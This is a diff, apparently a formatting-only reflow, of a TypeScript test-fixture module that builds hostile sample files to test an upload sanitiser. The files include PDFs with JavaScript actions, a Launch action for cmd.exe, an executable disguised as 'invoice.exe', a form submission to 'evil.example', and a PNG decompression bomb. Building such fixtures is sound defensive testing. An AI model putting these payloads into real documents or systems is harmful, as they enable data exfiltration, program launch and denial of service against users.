@@ -16,7 +16,12 @@ export async function pdfBytes(text = "Case study: first-contact resolution"): P
 export async function pdfWithWebLink(): Promise<Buffer> {
   const doc = await PDFDocument.create();
   const page = doc.addPage([300, 200]);
-  const link = doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 100], A: { S: "URI", URI: PDFString.of("https://example.org/case-study") } });
+  const link = doc.context.obj({
+    Type: "Annot",
+    Subtype: "Link",
+    Rect: [0, 0, 100, 100],
+    A: { S: "URI", URI: PDFString.of("https://example.org/case-study") },
+  });
   page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(link)]));
   return Buffer.from(await doc.save());
 }
@@ -33,15 +38,27 @@ export async function hostilePdf(kind: HostilePdf): Promise<Buffer> {
     const tree = doc.context.obj({ Names: [PDFString.of("init"), doc.context.register(js("app.alert('named')"))] });
     doc.catalog.set(PDFName.of("Names"), doc.context.obj({ JavaScript: doc.context.register(tree) }));
   }
-  if (kind === "launch") doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "Launch", F: PDFString.of("cmd.exe") }));
-  if (kind === "embeddedFile") await doc.attach(Buffer.from("MZ not really a program"), "invoice.exe", { mimeType: "application/octet-stream" });
+  if (kind === "launch")
+    doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "Launch", F: PDFString.of("cmd.exe") }));
+  if (kind === "embeddedFile")
+    await doc.attach(Buffer.from("MZ not really a program"), "invoice.exe", { mimeType: "application/octet-stream" });
   if (kind === "annotationJs") {
     // the action sits two levels down, inside a page's link annotation
-    const annot = doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 100], A: js("this.submitForm('https://evil.example')") });
+    const annot = doc.context.obj({
+      Type: "Annot",
+      Subtype: "Link",
+      Rect: [0, 0, 100, 100],
+      A: js("this.submitForm('https://evil.example')"),
+    });
     page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(annot)]));
   }
   if (kind === "javascriptUri") {
-    const link = doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 100], A: { S: "URI", URI: PDFString.of("JavaScript:app.alert(1)") } });
+    const link = doc.context.obj({
+      Type: "Annot",
+      Subtype: "Link",
+      Rect: [0, 0, 100, 100],
+      A: { S: "URI", URI: PDFString.of("JavaScript:app.alert(1)") },
+    });
     page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(link)]));
   }
   return Buffer.from(await doc.save({ useObjectStreams: kind !== "annotationJs" }));
@@ -65,7 +82,12 @@ export function pngBomb(width = 20_000, height = 20_000): Buffer {
   header[9] = 0; // greyscale
   const rows = Buffer.alloc(height * (1 + Math.ceil(width / 8))); // filter byte + bits, all zero
   const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
-  return Buffer.concat([signature, pngChunk("IHDR", header), pngChunk("IDAT", zlib.deflateSync(rows, { level: 9 })), pngChunk("IEND", Buffer.alloc(0))]);
+  return Buffer.concat([
+    signature,
+    pngChunk("IHDR", header),
+    pngChunk("IDAT", zlib.deflateSync(rows, { level: 9 })),
+    pngChunk("IEND", Buffer.alloc(0)),
+  ]);
 }
 
 export const GPS_MARKER = "GPS-MARKER-LAGOS-6.45N";
@@ -74,6 +96,9 @@ export const GPS_MARKER = "GPS-MARKER-LAGOS-6.45N";
 export async function jpegWithGps(width = 320, height = 240): Promise<Buffer> {
   return sharp({ create: { width, height, channels: 3, background: "#a33" } })
     .jpeg()
-    .withExif({ IFD0: { Artist: "EXIF-ARTIST-NAME" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "6/1 27/1 0/1", GPSMapDatum: GPS_MARKER } })
+    .withExif({
+      IFD0: { Artist: "EXIF-ARTIST-NAME" },
+      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "6/1 27/1 0/1", GPSMapDatum: GPS_MARKER },
+    })
     .toBuffer();
 }
